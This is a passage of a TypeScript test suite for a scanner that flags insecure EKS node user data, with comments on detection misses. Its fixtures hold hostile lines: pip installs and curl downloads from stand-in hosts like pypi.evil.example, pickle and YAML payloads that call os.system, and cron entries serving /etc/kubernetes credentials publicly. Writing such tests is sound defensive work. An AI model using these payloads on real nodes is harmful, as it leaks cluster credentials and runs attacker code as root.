// Red-team round 74 (python, fresh eyes) on EKS NODE user data: root Python programs, neighbours of round 74's fixes.
// Probed (insecure, 52): pip-installed trust edges (uv pip with UV_INDEX_URL / /etc/uv/uv.toml, a local archive named
// like a project, a later reinstall from another index or a wheel, quote-split PIP_ variable, `pip -q config`, pip.conf
// by cp/ln, a module shadowed from the stdlib directory); the program's environment + breakpoint (os.putenv, environb,
// environ |=, update(kw), a computed value); strings imported/evaluated (pkgutil.resolve_name, pydoc.locate, dictConfig
// "()", fileConfig eval, typing.get_type_hints, inspect.get_annotations(eval_str), timeit, cProfile.run,
// code.InteractiveInterpreter); write calls as values / hidden writes (a call result's bound write_text in map, class
// attribute open, sys.modules builtins, methodcaller, fileinput inplace, dictConfig FileHandler, WatchedFileHandler);
// unsafe loads (jsonpickle, dill, joblib, torch, pandas after pip install; _pickle; import_module('pickle'); yaml
// CLoader/getattr loader; numpy read_array); servers (http.server --cg / --dir / -d attached, asyncio start_server,
// XML-RPC register_instance(os), a WSGI callable instance); shell lines (shlex.split/str.split cp, crontab FILE, at
// with input=, install(1)).
// Secure (17): pip extras, `pip -q install`, -r of name specifiers, pyjwt -> jwt, python3 -m pip --user, map(print),
// partial(open, encoding) reads, map(open) reads, PYTHONBREAKPOINT=0 (item and update), dictConfig StreamHandler,
// literal_eval, yaml CSafeLoader, `--cgi --bi 127.0.0.1`, shlex.split sysctl, timeit of a lambda, plain type hints.
// Misses: insecure 18 of 52 accepted, by class:
// - PIP-TRUST (8): `uv pip install` read as pip (UV_INDEX_URL, uv.toml ignored); `pip install srv.zip` (a local archive
//   passes the name regex); a later `pip install -U --index-url` / wheel reinstall does not retract trust;
//   PIP_''INDEX_URL quoting; `pip3 -q config` (general option before the subcommand); a srvx.py written into the stdlib
//   directory (/usr/lib64/python3.7) shadows the pip module. Fix: parse the pip command word and subcommand after general
//   options, archive-suffixed operands are paths, any later untrusted install line retracts, uv is not pip, quote-removed
//   env words, any written file in a pythonN library directory.
// - PIP-DATA-LOADS (5): jsonpickle.decode, dill.load, joblib.load, torch.load(weights_only=False), pandas.read_pickle
//   after a pip install: trusting the package's code is not trusting the data it unpickles. Fix: list them in
//   PYTHON_DYNAMIC_NAMES.
// - WRITE-CALL-AS-VALUE (2): `Path(p).write_text` of a call result passed to map; `class C: w = open` then C.w(...).
// - MODULE-ALIAS (1): p = importlib.import_module('pickle'); p.loads(...) not resolved to pickle.loads.
// - SUBPROCESS-RUNNERS (2): subprocess crontab FILE (root's crontab) and at with input= (shell lines) not judged.
// Secure 6 of 17 refused: `pip3 -q install` (general option; a real bug), -r of name specifiers, pyjwt/jwt, map(open)
// reads, shlex.split of a literal, timeit of a lambda (the last five fail-closed; the lead may rule DECIDED).
// Held: putenv/environb/|=/update PYTHONBREAKPOINT, pkgutil/pydoc/dictConfig "()"/fileConfig/annotations/timeit/cProfile/
// code strings, sys.modules/methodcaller/fileinput/logging file handlers, _pickle, yaml CLoader/getattr, read_array,
// http.server abbreviations (--cg, --dir, -d/...), asyncio and XML-RPC and WSGI-instance servers, shlex/str.split (fail
// closed), install(1), pip.conf by cp/ln.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names: the server, the program, a write root reads, or code it does not read. */
const REFUSED =
    /serv|8001|6000|kubernetes|tune\.py|srv|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import/;

/** Round 76: the refusal of code imported from a module pip may have installed from anywhere (srvx, pipRun). */
const SRVX_UNTRUSTED = /imports srvx, a module user data did not write and the pack does not know/;

/** The cron line the insecure writes put in root's cron: a server of /etc/kubernetes on 0.0.0.0:8001. */
const CRON = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n";
/** The same as a shell command run by the program. */
const SERVE = "cd /etc/kubernetes && nohup python3 -m http.server 8001 >/dev/null 2>&1 &";

/** /opt/ops/srv.py: a server of /etc/kubernetes (the kubelet's credentials) on 0.0.0.0:8001, `main()` serving. */
const SERVER = [
    "import functools, http.server",
    "def main(*a, **k):",
    '    h = functools.partial(http.server.SimpleHTTPRequestHandler, directory="/etc/kubernetes")',
    '    http.server.ThreadingHTTPServer(("0.0.0.0", 8001), h).serve_forever()',
];

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops (a data directory); `before` shell lines first. */
const tune = (name: string, lines: string[], before: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /var/lib/ops && python3 /opt/ops/tune.py",
    ]);

/** tune.py with srv.py (SERVER) beside it in /opt/ops, run from /opt/ops. */
const withSrv = (name: string, lines: string[], before: string[] = []) =>
    devNodeScript(name, [
        ...before,
        ...heredocFile("/opt/ops/srv.py", SERVER),
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /opt/ops && nohup python3 /opt/ops/tune.py >/var/log/tune.log 2>&1 &",
    ]);

/** tune.py importing a pip-installed module `mod` and calling its main(), after the `install` shell lines. */
const pipRun = (name: string, install: string[], mod = "srvx") =>
    tune(name, [`import ${mod}`, `${mod}.main()`], install);

/** A YAML/JSON/pickle payload file user data writes (content irrelevant to the pack: the loader runs code). */
const PAYLOAD = (path: string) => heredocFile(path, [`run: !!python/object/apply:os.system ["${SERVE}"]`]);

const insecure: NodeCase[] = [
    // ===== pip-installed trust (DECIDED round 74: default index by name only) — its edges =====
    // uv docs "Environment variables": UV_INDEX_URL / UV_DEFAULT_INDEX "Equivalent to the --index-url / --default-index
    // command-line argument ... uv will use this URL as the default index when searching for packages".
    // Was a MISS (fixed in round 74): uv docs "Environment variables" (UV_INDEX_URL: "Equivalent to the --index-url command-line argument";
    // UV_DEFAULT_INDEX likewise): uv installs srvx from pypi.evil.example, root imports it and runs its main()
    // (anything: a server of /etc/kubernetes). scriptPipModules (userDataReaders/pythonCode.ts) finds the word `pip`
    // anywhere on the line (`uv pip install` matches /^pip[0-9.]*$/ at words[1]) and only PIP_* variables / pip.conf
    // move the index: got []. Fix: only a command WORD that is pip/pythonN -m pip counts (the program word after
    // env/sudo assignments); uv is another installer (UV_* variables, uv.toml, --index) -- trust it only with no UV_
    // variable and no uv.toml/pyproject written, or not at all.
    dev(
        "user data: UV_SYSTEM_PYTHON=1 UV_INDEX_URL=https://pypi.evil.example/simple uv pip install srvx; tune.py imports srvx",
        pipRun("dev-py74q-uv-index-env-nodes", [
            "UV_SYSTEM_PYTHON=1 UV_INDEX_URL=https://pypi.evil.example/simple uv pip install srvx",
        ]),
        REFUSED,
    ),
    // uv docs "Configuration files": /etc/uv/uv.toml (system-level) is read; [[index]] with default = true replaces PyPI.
    // Was a MISS (fixed in round 74): uv docs "Configuration files" (system-level /etc/uv/uv.toml is read; "Indexes": an [[index]] with default
    // = true replaces PyPI): srvx comes from pypi.evil.example; pythonPipInstalled only looks for written
    // pip.conf/pip.ini. Same fix as the UV_INDEX_URL case (uv is not pip; or also treat uv.toml/UV_* as moving the
    // index).
    dev(
        "user data: /etc/uv/uv.toml [[index]] default=true url=evil; UV_SYSTEM_PYTHON=1 uv pip install srvx",
        pipRun("dev-py74q-uv-toml-nodes", [
            ...heredocFile("/etc/uv/uv.toml", [
                "[[index]]",
                'url = "https://pypi.evil.example/simple"',
                "default = true",
            ]),
            "UV_SYSTEM_PYTHON=1 uv pip install srvx",
        ]),
        REFUSED,
    ),
    // pip docs "pip install" (a local archive: "pip install ./downloads/SomePackage-1.0.4.tar.gz"); pip
    // req/constructors.py _get_url_from_path: a name ending in an archive extension (.zip/.whl/.tar.gz) that is a file
    // is installed FROM THAT FILE, not the index. The file came from any URL.
    // Was a MISS (fixed in round 74): pip docs "pip install" ("pip install ./downloads/SomePackage-1.0.4.tar.gz": local archives) and pip's
    // req/constructors.py _get_url_from_path (a requirement ending in an archive extension,
    // .zip/.whl/.tar.gz/.tgz/.tar.bz2, that names an existing file is installed from that file): `srv.zip` passes
    // scriptPipModules' name regex (dots allowed) and is trusted as module srv_zip from the default index, but pip
    // installs the curl'd archive, any code. Fix: an operand ending in a pip archive extension (is_archive_file list)
    // is a path, not a name.
    dev(
        "user data: curl -o srv.zip https://evil.example/srv.zip; pip install srv.zip (a local archive); import srv_zip",
        pipRun(
            "dev-py74q-pip-archive-name-nodes",
            ["cd /var/lib/ops", "curl -fsSLo srv.zip https://evil.example/srv.zip", "pip3 install srv.zip"],
            "srv_zip",
        ),
        REFUSED,
    ),
    // pip docs "pip install -U": a second install of the same project from another index replaces the first.
    // Was a MISS (fixed in round 74): pip docs "pip install" (--upgrade, --index-url: "Base URL of the Python Package Index"): the second line
    // replaces srvx with the evil index's. scriptPipModules adds srvx from the first line and skips (does not
    // retract) the second. Fix: any pip/installer line the reader does not trust (options outside PIP_PLAIN_OPTIONS,
    // paths, URLs, -r) that names or may name a module (any operand, or any -r/-c file) removes trust from those
    // names, or from all names when it cannot tell.
    dev(
        "user data: pip install srvx, then pip install -U --index-url https://evil/simple srvx (replaces it)",
        pipRun("dev-py74q-pip-reinstall-index-nodes", [
            "pip3 install srvx",
            "pip3 install -U --index-url https://pypi.evil.example/simple srvx",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 74): pip docs "pip install" (--force-reinstall; a wheel file path): the last install of srvx is a downloaded
    // wheel. Same class and fix as the -U --index-url case (a later untrusted install line retracts trust; a wheel
    // path names its project in its file name, PEP 427).
    dev(
        "user data: pip install srvx, then pip install --force-reinstall /var/lib/ops/srvx-1.0-py3-none-any.whl",
        pipRun("dev-py74q-pip-reinstall-wheel-nodes", [
            "pip3 install srvx",
            "curl -fsSLo /var/lib/ops/srvx-1.0-py3-none-any.whl https://evil.example/srvx.whl",
            "pip3 install --force-reinstall /var/lib/ops/srvx-1.0-py3-none-any.whl",
        ]),
        REFUSED,
    ),
    // pip docs "Configuration" ("Environment Variables": PIP_<UPPER_LONG_NAME>); bash: quote removal joins
    // PIP_''INDEX_URL=... into the word PIP_INDEX_URL=... (an env(1) assignment).
    // Was a MISS (fixed in round 74): pip docs "Configuration" ("Environment Variables": PIP_INDEX_URL) and POSIX sh "Quote Removal": the word
    // PIP_''INDEX_URL=... is the assignment PIP_INDEX_URL=https://pypi.evil.example/simple for pip. scriptPipModules
    // tests /PIP_\w+\s*=/ on the raw text (the '' breaks \w+) and view.environment has no PIP_ key for an env(1)
    // word: got []. Fix: read env/assignment words after quote removal (the shell word reader the rest of the pack
    // uses), or refuse any line whose text names PIP_ in any quoting.
    dev(
        "user data: env PIP_''INDEX_URL=https://evil/simple pip3 install srvx (quote-split variable name)",
        pipRun("dev-py74q-pip-env-quoted-nodes", [
            "env PIP_''INDEX_URL=https://pypi.evil.example/simple pip3 install srvx",
        ]),
        REFUSED,
    ),
    // pip docs "pip config" (set NAME VALUE; --global writes /etc/pip.conf); pip's general options (-q) precede the command.
    // Was a MISS (fixed in round 74): pip docs "pip" (General Options precede the command: `pip [options] <command>`) and "pip config" (set;
    // --global writes the site-wide file): global.index-url becomes pypi.evil.example. The text test is
    // /\bpip[0-9.]*\s+config\b/ which `pip3 -q config` fails; pip config writes /etc/pip.conf by itself (not a
    // written file the pack sees): got []. Fix: find the pip SUBCOMMAND after general options (the same parse
    // scriptPipModules needs; see the secure `pip3 -q install` case) and treat any `config` subcommand anywhere as
    // moving the index.
    dev(
        "user data: pip3 -q config --global set global.index-url https://evil/simple; pip3 install srvx",
        pipRun("dev-py74q-pip-config-general-opt-nodes", [
            "pip3 -q config --global set global.index-url https://pypi.evil.example/simple",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // pip docs "pip" (General Options: --proxy "Specify a proxy in the form scheme://[user:passwd@]proxy.server:port"):
    // a general option before the command that changes where packages come from is not a plain one.
    dev(
        "user data: pip3 --proxy http://evil.example:3128 install srvx; tune.py imports srvx",
        pipRun("dev-py74q-pip-general-proxy-nodes", ["pip3 --proxy http://evil.example:3128 install srvx"]),
        REFUSED,
    ),
    // pip docs "Configuration" ("Location": site-wide /etc/pip.conf): cp writes it.
    dev(
        "user data: cp /opt/ops/pipcfg /etc/pip.conf (index-url evil); pip3 install srvx",
        pipRun("dev-py74q-pip-conf-cp-nodes", [
            ...heredocFile("/opt/ops/pipcfg", ["[global]", "index-url = https://pypi.evil.example/simple"]),
            "cp /opt/ops/pipcfg /etc/pip.conf",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    dev(
        "user data: ln -s /opt/ops/pipcfg /etc/pip.conf (index-url evil); pip3 install srvx",
        pipRun("dev-py74q-pip-conf-ln-nodes", [
            ...heredocFile("/opt/ops/pipcfg", ["[global]", "index-url = https://pypi.evil.example/simple"]),
            "ln -sf /opt/ops/pipcfg /etc/pip.conf",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Python docs "sys.path" ("The installation-dependent default": the standard library directory precedes
    // site-packages): a srvx.py written into /usr/lib64/python3.7 shadows the pip-installed srvx.
    // Was a MISS (fixed in round 75): Python docs "The initialization of the sys.path module search path" (the standard library directory, e.g.
    // /usr/lib64/python3.7, precedes site-packages): root imports the srvx.py user data wrote there (a server of
    // /etc/kubernetes), not pip's. pythonPipInstalled only distrusts written site-packages/dist-packages files;
    // pythonModuleFile does not search the stdlib directories: got []. Fix: any file user data writes under a
    // pythonN[.M] library directory (lib, lib64, lib-dynload, /usr/local/lib...) named like the module (or any .py at
    // all there) makes that module unread.
    dev(
        "user data: writes /usr/lib64/python3.7/srvx.py (a server) and pip3 install srvx; tune.py imports srvx",
        pipRun("dev-py74q-pip-stdlib-shadow-nodes", [
            ...heredocFile("/usr/lib64/python3.7/srvx.py", SERVER),
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // Round 75 neighbours (insecure): a standard module's name written into the library directory is that module too
    // (Python docs "sys.path": the standard library directory precedes site-packages; the stdlib's own json.py is
    // replaced), and a reviewed project -> module mapping (pyjwt -> jwt) is shadowed the same way.
    dev(
        "user data: writes /usr/lib64/python3.7/json.py (a server); tune.py imports json",
        tune(
            "dev-py75q-stdlib-module-shadow-nodes",
            ["import json", "json.main()"],
            heredocFile("/usr/lib64/python3.7/json.py", SERVER),
        ),
        REFUSED,
    ),
    dev(
        "user data: writes /usr/local/lib/python3.9/jwt.py (a server) and pip3 install pyjwt; tune.py imports jwt",
        pipRun(
            "dev-py75q-pip-pyjwt-shadow-nodes",
            [...heredocFile("/usr/local/lib/python3.9/jwt.py", SERVER), "pip3 install pyjwt"],
            "jwt",
        ),
        REFUSED,
    ),
    dev(
        "user data: pip3 install --index-url https://pypi.evil.example/simple pyjwt; tune.py imports jwt",
        pipRun(
            "dev-py75q-pip-pyjwt-index-nodes",
            ["pip3 install --index-url https://pypi.evil.example/simple pyjwt"],
            "jwt",
        ),
        REFUSED,
    ),
    dev(
        "user data: tar -xzf /opt/ops/lib.tgz -C /usr/lib64/python3.7 (content unknown) and pip3 install srvx",
        pipRun("dev-py75q-pip-stdlib-tar-nodes", [
            "tar -xzf /opt/ops/lib.tgz -C /usr/lib64/python3.7",
            "pip3 install srvx",
        ]),
        REFUSED,
    ),
    // ===== the program's own environment writes + breakpoint (PEP 553) =====
    // Python docs "os.putenv": changes "affect subprocesses" and the C environ; CPython sys.breakpointhook reads
    // PYTHONBREAKPOINT with getenv() (checked: os.putenv("PYTHONBREAKPOINT", "srv.main"); breakpoint() runs srv.main).
    dev(
        "tune.py: os.putenv('PYTHONBREAKPOINT', 'srv.main'); breakpoint()",
        withSrv("dev-py74q-putenv-breakpoint-nodes", [
            "import os",
            'os.putenv("PYTHONBREAKPOINT", "srv.main")',
            "breakpoint()",
        ]),
        REFUSED,
    ),
    // Python docs "os.environb": "Bytes version of environ"; updates call putenv (checked: runs srv.main).
    dev(
        "tune.py: os.environb[b'PYTHONBREAKPOINT'] = b'srv.main'; breakpoint()",
        withSrv("dev-py74q-environb-breakpoint-nodes", [
            "import os",
            'os.environb[b"PYTHONBREAKPOINT"] = b"srv.main"',
            "breakpoint()",
        ]),
        REFUSED,
    ),
    // Python docs "os.environ" (a mapping; "Changed in version 3.9: Updated to support PEP 584's merge (|) and
    // update (|=) operators").
    dev(
        "tune.py: os.environ |= {'PYTHONBREAKPOINT': 'srv.main'}; breakpoint()",
        withSrv("dev-py74q-environ-ior-breakpoint-nodes", [
            "import os",
            'os.environ |= {"PYTHONBREAKPOINT": "srv.main"}',
            "breakpoint()",
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: os.environ.update(PYTHONBREAKPOINT='srv.main'); breakpoint()",
        withSrv("dev-py74q-environ-update-kw-breakpoint-nodes", [
            "import os",
            'os.environ.update(PYTHONBREAKPOINT="srv.main")',
            "breakpoint()",
        ]),
        REFUSED,
    ),
    // ===== importlib-like forms: a string naming a module attribute, imported and called =====
    // Python docs "pkgutil.resolve_name(name)": "Resolve a name to an object ... W(.W)*:(W(.W)*)?" (imports it).
    dev(
        "tune.py: pkgutil.resolve_name('s' + 'rv:main')() (a computed name imported)",
        withSrv("dev-py74q-pkgutil-resolve-nodes", ["import pkgutil", 'pkgutil.resolve_name("s" + "rv:main")()']),
        REFUSED,
    ),
    // pydoc.locate(path): "Locate an object by name or dotted path, importing as necessary" (Lib/pydoc.py).
    dev(
        "tune.py: pydoc.locate('s' + 'rv.main')()",
        withSrv("dev-py74q-pydoc-locate-nodes", ["import pydoc", 'pydoc.locate("s" + "rv.main")()']),
        REFUSED,
    ),
    // Python docs "logging.config" ("User-defined objects": a "()" key names a factory, imported and called).
    dev(
        "tune.py: logging.config.dictConfig({... handlers: {h: {'()': 's'+'rv.main'}}})",
        withSrv("dev-py74q-dictconfig-factory-nodes", [
            "import logging.config",
            'logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "s" + "rv.main"}}})',
        ]),
        REFUSED,
    ),
    // Python docs "logging.config.fileConfig": "portions of the configuration are passed through eval()" (handler
    // args; checked: os.system in args runs).
    dev(
        "tune.py: logging.config.fileConfig('/etc/ops/log.ini') whose handler args eval os.system(SERVE)",
        tune(
            "dev-py74q-fileconfig-eval-nodes",
            ["import logging.config", 'logging.config.fileConfig("/etc/ops/log.ini")'],
            heredocFile("/etc/ops/log.ini", [
                "[loggers]",
                "keys=root",
                "[handlers]",
                "keys=h",
                "[formatters]",
                "keys=",
                "[logger_root]",
                "level=INFO",
                "handlers=h",
                "[handler_h]",
                "class=StreamHandler",
                `args=(os.system("${SERVE}") and sys.stderr or sys.stderr,)`,
            ]),
        ),
        REFUSED,
    ),
    // ===== write calls as values / writes the pack may not see =====
    // Python docs "pathlib.Path.write_text"; a bound method of a call's result passed to map.
    // Was a MISS (fixed in round 75): Python docs "pathlib.Path.write_text" and "map": map calls the bound method
    // Path('/etc/cron.d/ops').write_text(cron line): root's cron serves /etc/kubernetes. pythonWriteCallValues
    // (pythonCode.ts) matches names with (?<![\w.]) so `.write_text` after a call's `)` is never a candidate value,
    // and the call reader never sees a call of it: got []. Fix: an attribute of a call result (`).NAME`) naming a
    // write method (write_text/write_bytes/open/touch/...) not followed by `(` is a write call used as a value (fail
    // closed).
    dev(
        "tune.py: list(map(Path('/etc/cron.d/ops').write_text, [cron line])) (a bound method as a value)",
        tune("dev-py74q-map-bound-write-text-nodes", [
            "from pathlib import Path",
            `list(map(Path("/etc/cron.d/ops").write_text, ["${CRON}"]))`,
        ]),
        REFUSED,
    ),
    // Round 75 neighbours (insecure): a bound write method stored in a name, and a bound Path.open given a mode by map.
    dev(
        "tune.py: w = Path('/etc/cron.d/ops').write_text; w(cron line)",
        tune("dev-py75q-bound-write-text-alias-nodes", [
            "from pathlib import Path",
            'w = Path("/etc/cron.d/ops").write_text',
            `w("${CRON}")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: [f.write(cron line) for f in map(Path('/etc/cron.d/ops').open, ['w'])]",
        tune("dev-py75q-map-bound-path-open-nodes", [
            "from pathlib import Path",
            `[f.write("${CRON}") for f in map(Path("/etc/cron.d/ops").open, ["w"])]`,
        ]),
        REFUSED,
    ),
    // Python reference "Class definitions": a class attribute bound to the builtin open (builtins are not descriptors).
    // Was a MISS (fixed in round 75): Python reference "Class definitions" (the body's bindings become class attributes) and Python docs
    // "Built-in Functions" (open is a builtin function, not a descriptor: C.w is open): root writes /etc/cron.d/ops.
    // The `w = open` line is exempted as an alias statement, but the call `C.w(...)` resolves to C.w, not open: got
    // []. Fix: an alias statement inside a class body (or any indented binding) binds CLASS.NAME too, or refuse a
    // write callable bound inside a class body.
    dev(
        "tune.py: class C: w = open; C.w('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py74q-class-attr-open-nodes", [
            "class C:",
            "    w = open",
            `C.w("/etc/cron.d/ops", "w").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Round 75 neighbours (insecure): a partial bound in a class body, and an alias under an `if` in a class body.
    dev(
        "tune.py: class C: w = functools.partial(open, mode='w'); C.w('/etc/cron.d/ops').write(cron line)",
        tune("dev-py75q-class-attr-partial-open-nodes", [
            "import functools",
            "class C:",
            '    w = functools.partial(open, mode="w")',
            `C.w("/etc/cron.d/ops").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: class C: (if True: w = open); C().w is open (no descriptor); C.w('/etc/cron.d/ops', 'w')",
        tune("dev-py75q-class-if-attr-open-nodes", [
            "class C:",
            "    if True:",
            "        w = open",
            `C.w("/etc/cron.d/ops", "w").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Python docs "sys.modules": the builtins module object; its open is the builtin.
    dev(
        "tune.py: sys.modules['builtins'].open('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py74q-sys-modules-open-nodes", [
            "import sys",
            `sys.modules["builtins"].open("/etc/cron.d/ops", "w").write("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Python docs "operator.methodcaller(name, /, *args)": "calls the method name on its operand".
    dev(
        "tune.py: operator.methodcaller('write_text', cron line)(Path('/etc/cron.d/ops'))",
        tune("dev-py74q-methodcaller-nodes", [
            "import operator",
            "from pathlib import Path",
            `operator.methodcaller("write_text", "${CRON}")(Path("/etc/cron.d/ops"))`,
        ]),
        REFUSED,
    ),
    // Python docs "fileinput": "if the keyword argument inplace=True is passed ... standard output is directed to the
    // input file".
    dev(
        "tune.py: fileinput.input('/etc/crontab', inplace=True) printing a cron line into /etc/crontab",
        tune("dev-py74q-fileinput-inplace-nodes", [
            "import fileinput",
            'for line in fileinput.input("/etc/crontab", inplace=True):',
            '    print(line, end="")',
            "    if fileinput.isfirstline():",
            '        print("@reboot root cd /etc/kubernetes && python3 -m http.server 8001")',
        ]),
        REFUSED,
    ),
    // Python docs "logging.config" dictConfig handlers ("filename" for logging.FileHandler; default format %(message)s).
    dev(
        "tune.py: dictConfig FileHandler filename /etc/cron.d/ops; logging.warning(cron line)",
        tune("dev-py74q-dictconfig-filehandler-nodes", [
            "import logging, logging.config",
            "logging.config.dictConfig({",
            '    "version": 1,',
            '    "handlers": {"f": {"class": "logging.FileHandler", "filename": "/etc/cron.d/ops"}},',
            '    "root": {"handlers": ["f"], "level": "INFO"},',
            "})",
            `logging.warning("${CRON}")`,
        ]),
        REFUSED,
    ),
    // Python docs "logging.handlers.WatchedFileHandler(filename, mode='a')".
    dev(
        "tune.py: logging.handlers.WatchedFileHandler('/etc/cron.d/ops') added to root; warning(cron line)",
        tune("dev-py74q-watched-filehandler-nodes", [
            "import logging, logging.handlers",
            'logging.getLogger().addHandler(logging.handlers.WatchedFileHandler("/etc/cron.d/ops"))',
            `logging.warning("${CRON}")`,
        ]),
        REFUSED,
    ),
    // ===== unsafe loads =====
    // jsonpickle docs ("Security": "The jsonpickle module is not secure. Only unpickle data you trust. It is possible
    // to construct malicious pickle data which will execute arbitrary code during unpickling"): py/reduce.
    // Was a MISS (fixed in round 74): jsonpickle docs "Security" ("The jsonpickle module is not secure ... possible to construct malicious
    // pickle data which will execute arbitrary code during unpickling"): py/reduce calls os.system(a server of
    // /etc/kubernetes). A pip-installed module is trusted (DECIDED) and its calls are read as pure: got []. Fix:
    // trust of a pip-installed package's CODE is not trust of the data it deserialises: list the code-running loaders
    // (jsonpickle.decode/Unpickler, dill.load(s), cloudpickle.load(s), joblib.load, torch.load without
    // weights_only=True, pandas.read_pickle, ...) in PYTHON_DYNAMIC_NAMES beside pickle.
    dev(
        "user data: pip3 install jsonpickle; tune.py: jsonpickle.decode(open('/etc/ops/t.json').read()) (py/reduce)",
        tune(
            "dev-py74q-jsonpickle-decode-nodes",
            ["import jsonpickle", 'print(jsonpickle.decode(open("/etc/ops/t.json").read()))'],
            [
                "pip3 install jsonpickle",
                ...heredocFile("/etc/ops/t.json", [
                    `{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["${SERVE}"]}]}`,
                ]),
            ],
        ),
        REFUSED,
    ),
    // dill docs ("dill extends python's pickle module"; pickle docs: "Only unpickle data you trust").
    // Was a MISS (fixed in round 74): dill docs ("dill extends python's pickle module"; Python docs "pickle": "It is possible to construct
    // malicious pickle data which will execute arbitrary code"): whoever wrote /var/cache/ops/s.pkl runs code as
    // root. Same class and fix as jsonpickle (pip trust is not data trust).
    dev(
        "user data: pip3 install dill; tune.py: dill.load(open('/var/cache/ops/s.pkl', 'rb'))",
        tune(
            "dev-py74q-dill-load-nodes",
            ["import dill", 'print(dill.load(open("/var/cache/ops/s.pkl", "rb")))'],
            ["pip3 install dill"],
        ),
        REFUSED,
    ),
    // joblib docs "Persistence" ("joblib.load relies on the pickle module and can therefore execute arbitrary Python
    // code. It should therefore never be used to load files from untrusted sources").
    // Was a MISS (fixed in round 74): joblib docs "Persistence" ("joblib.load relies on the pickle module and can therefore execute arbitrary
    // Python code. It should therefore never be used to load files from untrusted sources"). Same class and fix as
    // jsonpickle.
    dev(
        "user data: pip3 install joblib; tune.py: joblib.load('/var/cache/ops/model.joblib')",
        tune(
            "dev-py74q-joblib-load-nodes",
            ["import joblib", 'print(joblib.load("/var/cache/ops/model.joblib"))'],
            ["pip3 install joblib"],
        ),
        REFUSED,
    ),
    // PyTorch docs "torch.load" ("weights_only=False ... uses the pickle module implicitly, which is known to be
    // insecure ... possible to construct malicious pickle data which will execute arbitrary code").
    // Was a MISS (fixed in round 74): PyTorch docs "torch.load" (weights_only=False "uses the pickle module implicitly, which is known to be
    // insecure"). Same class and fix as jsonpickle (torch.load refused unless weights_only=True literally).
    dev(
        "user data: pip3 install torch; tune.py: torch.load('/var/cache/ops/m.pt', weights_only=False)",
        tune(
            "dev-py74q-torch-load-nodes",
            ["import torch", 'print(torch.load("/var/cache/ops/m.pt", weights_only=False))'],
            ["pip3 install torch"],
        ),
        REFUSED,
    ),
    // pandas docs "read_pickle" ("Warning: Loading pickled data received from untrusted sources can be unsafe").
    // Was a MISS (fixed in round 74): pandas docs "pandas.read_pickle" ("Loading pickled data received from untrusted sources can be unsafe").
    // Same class and fix as jsonpickle.
    dev(
        "user data: pip3 install pandas; tune.py: pandas.read_pickle('/var/cache/ops/df.pkl')",
        tune(
            "dev-py74q-pandas-read-pickle-nodes",
            ["import pandas", 'print(pandas.read_pickle("/var/cache/ops/df.pkl"))'],
            ["pip3 install pandas"],
        ),
        REFUSED,
    ),
    // The same through the conventional alias and with torch.load's default (no literal weights_only=True).
    dev(
        "user data: pip3 install pandas; tune.py: import pandas as pd; pd.read_pickle('/var/cache/ops/df.pkl')",
        tune(
            "dev-py74q-pd-read-pickle-nodes",
            ["import pandas as pd", 'print(pd.read_pickle("/var/cache/ops/df.pkl"))'],
            ["pip3 install pandas"],
        ),
        REFUSED,
    ),
    dev(
        "user data: pip3 install torch; tune.py: torch.load('/var/cache/ops/m.pt') (weights_only not literally True)",
        tune(
            "dev-py74q-torch-load-default-nodes",
            ["import torch", 'print(torch.load("/var/cache/ops/m.pt"))'],
            ["pip3 install torch"],
        ),
        REFUSED,
    ),
    // CPython Lib/pickle.py: "from _pickle import ... Unpickler, loads": the C accelerator is the same unpickler.
    dev(
        "tune.py: import _pickle; _pickle.loads(open('/var/cache/ops/s.pkl', 'rb').read())",
        tune("dev-py74q-c-pickle-loads-nodes", [
            "import _pickle",
            'print(_pickle.loads(open("/var/cache/ops/s.pkl", "rb").read()))',
        ]),
        REFUSED,
    ),
    // PyYAML docs: CLoader is the LibYAML twin of Loader (unsafe, constructs python/object/apply).
    dev(
        "tune.py: yaml.load(open('/etc/ops/t.yaml'), Loader=yaml.CLoader) (the C full loader)",
        tune(
            "dev-py74q-yaml-cloader-nodes",
            ["import yaml", 'print(yaml.load(open("/etc/ops/t.yaml"), Loader=yaml.CLoader))'],
            PAYLOAD("/etc/ops/t.yaml"),
        ),
        REFUSED,
    ),
    dev(
        "tune.py: yaml.load(f, Loader=getattr(yaml, 'Unsafe' + 'Loader')) (a computed loader)",
        tune(
            "dev-py74q-yaml-getattr-loader-nodes",
            ["import yaml", 'print(yaml.load(open("/etc/ops/t.yaml"), Loader=getattr(yaml, "Unsafe" + "Loader")))'],
            PAYLOAD("/etc/ops/t.yaml"),
        ),
        REFUSED,
    ),
    // NumPy docs "numpy.lib.format.read_array(fp, allow_pickle=False, ...)".
    dev(
        "tune.py: numpy.lib.format.read_array(open(f, 'rb'), allow_pickle=True)",
        tune("dev-py74q-numpy-read-array-nodes", [
            "import numpy",
            'print(numpy.lib.format.read_array(open("/var/cache/ops/s.npy", "rb"), allow_pickle=True))',
        ]),
        REFUSED,
    ),
    // ===== http.server --cgi and friends =====
    // Python docs "argparse" (allow_abbrev, default True: "Allows long options to be abbreviated if the abbreviation is
    // unambiguous"); http.server's parser has one option starting --cg (checked: `--cg` serves, with CGI).
    dev(
        "user data: cd /opt/ops && python3 -m http.server --cg 8001 (argparse abbreviation of --cgi)",
